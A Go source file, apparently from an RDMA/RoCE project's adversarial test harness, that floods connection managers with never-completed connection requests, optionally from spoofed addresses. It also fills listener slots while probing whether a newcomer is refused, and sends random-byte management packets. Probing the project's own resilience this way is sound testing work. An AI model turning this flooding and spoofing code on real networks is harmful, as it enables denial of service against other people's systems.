package attack

import (
	"net/netip"
	"time"

	"github.com/verbena-rdma/verbena/soft/internal/roce/cm"
	"github.com/verbena-rdma/verbena/soft/internal/roce/cm/mad"
	"github.com/verbena-rdma/verbena/soft/internal/roce/wire"
	"github.com/verbena-rdma/verbena/verbs"
)

// floodRequests sends connection requests with new queue pairs and identities to the listeners of
// the right victim, and completes none.
func floodRequests(a *attacker) error { return a.floodManagers(a.request) }

// request makes a request with a new queue pair and identity.
func (a *attacker) request(s *sender, message *[mad.Len]byte, port uint16) error {
	var private [mad.IPHeaderLen]byte
	header := mad.IPHeader{Source: s.from.Addr(), Destination: s.to.Addr(), SourcePort: uint16(a.rng.Uint32())}
	header.Encode(&private)
	r := mad.REQ{
		TransactionID: a.rng.Uint64(), LocalCommID: a.rng.Uint32(), CAGUID: a.rng.Uint64(), QPN: a.rng.Uint32N(1<<24-2) + 2,
		ServiceID: cm.Service{Space: cm.PortSpaceTCP, Port: port}.ID(), RemoteResponseTimeout: 20, LocalResponseTimeout: 20,
		ResponderResources: 1, InitiatorDepth: 1, PKey: 0xffff, PathMTU: 1, RetryCount: 7, RNRRetry: 7, MaxCMRetries: 15,
		PrivateData: private[:],
		Primary: mad.Path{
			LocalLID: mad.PermissiveLID, RemoteLID: mad.PermissiveLID, HopLimit: 64, AckTimeout: 17,
			LocalGID: verbs.GIDFromAddr(s.from.Addr()), RemoteGID: verbs.GIDFromAddr(s.to.Addr()),
		},
	}
	return r.Encode(message)
}

// holdPlaces sends as many requests as it takes to get all places that one address can have, completes
// none, and repeats them. Meanwhile it looks whether a newcomer is served.
func holdPlaces(a *attacker) error {
	conn, err := bind(netip.AddrPortFrom(a.own[0], 4791)) // otherwise the system says that nobody is there
	if err != nil {
		return err
	}
	defer conn.Close()
	requests := 0
	return a.floodManagers(func(s *sender, message *[mad.Len]byte, port uint16) error {
		if requests++; requests == 200 {
			go a.tryNewcomer()
		}
		time.Sleep(time.Millisecond)
		return a.request(s, message, port)
	})
}

// tryNewcomer lets a newcomer dial, and ends the attack.
func (a *attacker) tryNewcomer() {
	defer a.ended.Store(true)
	answer, err := a.ask(message{Kind: "newcomer"})
	if err == nil && answer.Text != "" {
		a.achieved(refused, "a newcomer is not served beside requests of one address: %s", answer.Text)
	}
}

// floodMessages sends random bytes to the connection managers.
func floodMessages(a *attacker) error {
	return a.floodManagers(func(_ *sender, message *[mad.Len]byte, _ uint16) error {
		for i := range message {
			message[i] = byte(a.rng.Uint32())
		}
		if a.rng.IntN(2) == 0 { // a valid header and attribute
			copy(message[:], []byte{1, 7, 2, 3, 0, 0, 0, 0})
			message[16], message[17] = 0, 0x10+byte(a.rng.IntN(16))
		}
		return nil
	})
}

func (a *attacker) floodManagers(fill func(s *sender, message *[mad.Len]byte, port uint16) error) error {
	var message [mad.Len]byte
	var senders []*sender
	for _, end := range a.ends[2:] {
		if a.row.from != bySpoofing {
			s, err := a.socket(end.Addr)
			if err != nil {
				return err
			}
			senders = append(senders, s)
			continue
		}
		for host := range 64 { // of the network of the victims
			from := netip.AddrFrom4([4]byte{10, 66, 0, byte(100 + host)})
			s, err := newSenderAs(bySpoofing, from, netip.AddrPortFrom(from, 4791), end.Addr)
			if err != nil {
				return err
			}
			senders = append(senders, s)
			a.senders = append(a.senders, s)
		}
	}
	for !a.stopped() {
		for i, s := range senders {
			if err := fill(s, &message, a.ends[2+2*i/len(senders)].Listener); err != nil {
				return err
			}
			s.send(&wire.Packet{
				Opcode: wire.UDSendOnly, DestQP: wire.ManagementQPN, PSN: a.rng.Uint32() & wire.PSNMask,
				DETH: wire.DETH{QKey: cm.QKey, SrcQP: wire.ManagementQPN}, Payload: message[:],
			})
		}
	}
	return nil
}
